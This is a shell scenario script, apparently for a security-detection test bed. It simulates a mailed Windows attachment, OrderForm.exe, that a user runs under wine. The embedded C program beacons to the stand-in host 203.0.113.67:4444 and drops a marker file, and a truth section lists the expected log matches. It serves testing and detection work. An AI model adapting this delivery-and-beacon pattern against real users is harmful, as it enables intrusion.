# A program for another system, started by the loader that makes it run here.
title="Attached Windows program started with wine"
what="The buyer saves OrderForm.exe with Thunderbird and starts it with wine in a terminal, as the message says. The program, a Windows executable, connects to 203.0.113.67 port 4444 and leaves a file in the home directory."
host=ws3.example.org user=buyer daemons="cron dovecot"

setup() {
  dovecot_config
  cat > "$base/out/form.c" <<'P'
#include <winsock2.h>
#include <stdio.h>
int main(void) {
  WSADATA data;
  WSAStartup(MAKEWORD(2, 2), &data);
  SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444), .sin_addr.s_addr = inet_addr("203.0.113.67")};
  if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) send(s, "here\n", 5, 0);
  FILE *file = fopen("Z:\\home\\buyer\\.order-form", "w");
  if (file) fclose(file);
  closesocket(s);
  return 0;
}
P
  x86_64-w64-mingw32-gcc-win32 -O1 -s -o "$base/out/OrderForm.exe" "$base/out/form.c" -lws2_32
  # The buyer has used wine before: its folder is there.
  setpriv --reuid buyer --regid buyer --clear-groups env -i HOME=/home/buyer USER=buyer PATH=/usr/bin:/bin WINEDEBUG=-all wine wineboot -i >/dev/null 2>&1
  setpriv --reuid buyer --regid buyer --clear-groups env -i HOME=/home/buyer USER=buyer PATH=/usr/bin:/bin wineserver -w >/dev/null 2>&1 || true
}
act() {
  display_up
  small_talk 2
  mail_in --from orders@example.com --to buyer@example.org --subject "Order form" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/OrderForm.exe:application/x-msdownload"
  wait_log 'from=<orders@example.com>'; wait_mail buyer 1; sleep 1
  thunderbird_save buyer OrderForm.exe Downloads
  sleep 2
  console_as buyer <<'L'
cd Downloads
WINEDEBUG=-all wine OrderForm.exe
L
  wait_file /home/buyer/.order-form 20
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.*.*OrderForm.exe' 'the mail client saves the attachment'
  exec_step execute 'wine.* OrderForm.exe' 'wine starts it'
  net_step beacon 'wine.* 203.0.113.67:4444' 'it calls out'
  file_step stay 'wine.* open(at)?:write CREATE .*\.order-form' 'and leaves a file'
}
